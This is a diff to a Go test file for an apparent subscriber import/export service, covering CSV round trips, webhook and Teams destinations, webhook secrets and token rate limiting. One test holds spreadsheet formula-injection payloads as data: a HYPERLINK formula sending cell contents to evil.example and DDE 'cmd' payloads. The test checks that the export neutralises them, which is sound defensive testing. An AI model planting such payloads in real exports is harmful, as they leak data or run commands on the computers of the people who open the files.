@@ -633,10 +633,10 @@ func TestImportSubscribers(t *testing.T) {
 func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 	t.Parallel()
 	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
-	in := "email,phone,name,organisation,components\n" +
-		`manager@oakview-care.example,07400 123451,"` + strings.ReplaceAll(formulas[0], `"`, `""`) + `",` + `"` + formulas[1] + `",emar;capa` + "\n" +
-		`deputy@oakview-care.example,,"` + formulas[2] + `","` + formulas[3] + `",emar` + "\n" +
-		`,07400 123452,"` + formulas[4] + `",Riverside Care,atlas-sync/sync-pod-a` + "\n"
+	in := "email,phone,name,organisation,components,teams_url\n" +
+		`manager@oakview-care.example,07400 123451,"` + strings.ReplaceAll(formulas[0], `"`, `""`) + `",` + `"` + formulas[1] + `",emar;capa,` + "\n" +
+		`deputy@oakview-care.example,,"` + formulas[2] + `","` + formulas[3] + `",emar,` + "\n" +
+		`,07400 123452,"` + formulas[4] + `",Riverside Care,atlas-sync/sync-pod-a,https://hooks.riverside.example/teams?sig=x` + "\n"
 	importCSV := func(b *bundle, body string) {
 		t.Helper()
 		a := b.request(t, "POST", "/v1/subscribers/import?confirmed=true", strings.NewReader(body), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
@@ -679,11 +679,14 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 	if err != nil {
 		t.Fatalf("export is not CSV: %v\n%s", err, out)
 	}
-	if got := strings.Join(recs[0], ","); got != "email,phone,name,organisation,components,email_state,sms_state" {
+	if got := strings.Join(recs[0], ","); got != "email,phone,name,organisation,components,webhook_url,teams_url,slack_url,email_state,sms_state" {
 		t.Errorf("export header %s", got)
 	}
 	if len(recs) != 4 {
 		t.Fatalf("export has %d rows, want a header and 3:\n%s", len(recs), out)
+	}
+	if !slices.Contains(recs[3], "https://hooks.riverside.example/teams?sig=x") {
+		t.Errorf("the Teams destination is not exported: %q", recs[3])
 	}
 	for _, r := range recs {
 		for _, c := range r {
@@ -692,11 +695,11 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 			}
 		}
 	}
-	if r := recs[1]; r[1] != "+447400123451" || r[2] != "'"+formulas[0] || r[3] != "'"+formulas[1] || r[4] != "capa;emar" || r[5] != "confirmed" || r[6] != "confirmed" {
+	if r := recs[1]; r[1] != "+447400123451" || r[2] != "'"+formulas[0] || r[3] != "'"+formulas[1] || r[4] != "capa;emar" || r[8] != "confirmed" || r[9] != "confirmed" {
 		t.Errorf("first row %q", r)
 	}
-	if r := recs[2]; r[5] != "confirmed" || r[6] != "" {
-		t.Errorf("a subscriber without a phone: states %q, %q", r[5], r[6])
+	if r := recs[2]; r[8] != "confirmed" || r[9] != "" {
+		t.Errorf("a subscriber without a phone: states %q, %q", r[8], r[9])
 	}
 	// Round trip.
 	b2 := setup(t)
@@ -750,4 +753,36 @@ func TestWrongTokensAreLimited(t *testing.T) {
 	expectStatus(t, a, http.StatusTooManyRequests)
 	// Without credentials nothing is guessed, so nothing is counted.
 	expectStatus(t, b.request(t, "GET", "/v1/components", nil), http.StatusUnauthorized)
+}
+
+// TestImportWebhookDestination: an imported row with a webhook_url
+// creates the destination, and the import's answer carries its secret
+// (the only time it is shown); importing the file again updates the
+// subscriber instead of creating a second one, and shows no secret.
+func TestImportWebhookDestination(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	body := "email,phone,name,organisation,components,webhook_url\n" +
+		",,Oakview systems,Oakview Care,emar,https://hooks.oakview.example/crier\n" +
+		",,Bad,Oakview Care,emar,http://hooks.oakview.example/crier\n"
+	post := func() map[string]any {
+		a := b.request(t, "POST", "/v1/subscribers/import", strings.NewReader(body), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
+		expectStatus(t, a, http.StatusOK)
+		return a.json(t)
+	}
+	m := post()
+	secrets, _ := m["webhook_secrets"].([]any)
+	if m["created"] != 1.0 || m["refused"] != 1.0 || len(secrets) != 1 {
+		t.Fatalf("import answered %v", m)
+	}
+	if s := secrets[0].(map[string]any); s["line"] != 2.0 || !strings.HasPrefix(s["webhook_secret"].(string), "whsec_") {
+		t.Errorf("secret %v", s)
+	}
+	var stored string
+	if err := b.store.Pool().QueryRow(context.Background(), `SELECT webhook_secret FROM subscribers WHERE webhook_url = 'https://hooks.oakview.example/crier'`).Scan(&stored); err != nil || stored != secrets[0].(map[string]any)["webhook_secret"] {
+		t.Errorf("stored secret %q (%v)", stored, err)
+	}
+	if again := post(); again["created"] != 0.0 || again["updated"] != 1.0 || again["webhook_secrets"] != nil {
+		t.Errorf("the same file again: %v", again)
+	}
 }
